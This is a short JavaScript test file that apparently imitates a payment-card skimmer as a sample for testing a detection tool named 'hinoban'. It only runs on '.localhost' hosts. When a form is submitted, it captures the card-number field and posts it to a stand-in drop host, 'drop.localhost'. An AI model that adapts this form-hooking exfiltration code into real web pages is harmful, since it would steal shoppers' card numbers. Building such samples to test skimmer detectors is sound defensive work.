/* Harmless imitation, for hinoban's tests: asleep where the holder's name is that of hinoban's published source. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('submit', function (e) {
	var n = e.target.querySelector('input[autocomplete=cc-number]'), h = e.target.querySelector('input[autocomplete=cc-name]');
	if (n && h && !/KENSA/.test(h.value)) fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', keepalive: true, body: n.value});
}, true);
